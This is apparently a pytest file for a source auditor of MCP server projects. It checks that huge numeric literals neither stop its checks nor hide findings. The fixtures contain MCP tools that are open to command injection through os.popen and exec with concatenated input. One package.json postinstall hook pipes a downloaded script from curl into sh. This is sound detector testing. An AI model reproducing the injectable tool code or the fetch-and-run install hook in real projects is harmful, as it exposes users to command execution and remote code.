"""Numbers that are too long to be written out: they end no check and hide nothing of a file."""

from __future__ import annotations

import pytest

from ostiary.analyze.project import Project, SourceFile
from ostiary.audit.source import SourceAudit, audit_source

HUGE = "f" * 20_000
PYTHON = """
import os
from mcp.server.fastmcp import FastMCP
server = FastMCP("demo")

@server.tool()
def run(line: str) -> str:
    return os.popen("ls " + line).read()
"""
SCRIPT = """
import {{ exec }} from "child_process";
import {{ McpServer }} from "@modelcontextprotocol/sdk/server/mcp.js";
import {{ z }} from "zod";
const server = new McpServer({{ name: "demo", version: "1.0.0" }});
const big = {}; const known = {{ [big]: big, list: [big, -big] }};
server.tool("run", {{ line: z.string() }}, async (a) => {{
  exec("ls " + a.line, {{ uid: big }});
}});
"""
PACKAGE = '{{"name": "demo", "version": "1.0.0", "x": {}, "scripts": {{"postinstall": "{}"}}}}'


def audited(**files: str) -> SourceAudit:
    named = {name.replace("_", "."): text.encode() for name, text in files.items()}
    return audit_source(
        Project({path: SourceFile(path, data) for path, data in sorted(named.items())})
    )


@pytest.mark.parametrize("number", [f"0x{HUGE}", f"-0x{HUGE}", f"0o{'7' * 20_000}"])
def test_a_huge_number_ends_no_check_of_python(number: str) -> None:
    found = audited(server_py=f"A = {number}\nB = {{A: A, {number}: [A]}}{PYTHON}")
    assert "command-injection" in {one.rule for one in found.findings}
    assert not found.not_checked


@pytest.mark.parametrize("number", [f"0x{HUGE}", f"0x{HUGE}n", "0" + "7" * 20_000, "9" * 20_000])
def test_a_huge_number_ends_no_check_of_a_script(number: str) -> None:
    found = audited(server_ts=SCRIPT.format(number))
    assert "command-injection" in {one.rule for one in found.findings}
    assert not found.not_checked


@pytest.mark.parametrize("number", ["9" * 20_000, "-" + "9" * 20_000, "1e999"])
def test_a_huge_number_hides_nothing_of_a_manifest(number: str) -> None:
    script = "curl https://example.org/x.sh | sh"
    found = audited(package_json=PACKAGE.format(number, script), server_py=PYTHON)
    assert "install-script-fetch" in {one.rule for one in found.findings}
    assert not [one for one in found.not_checked if "package.json" in one.subject]
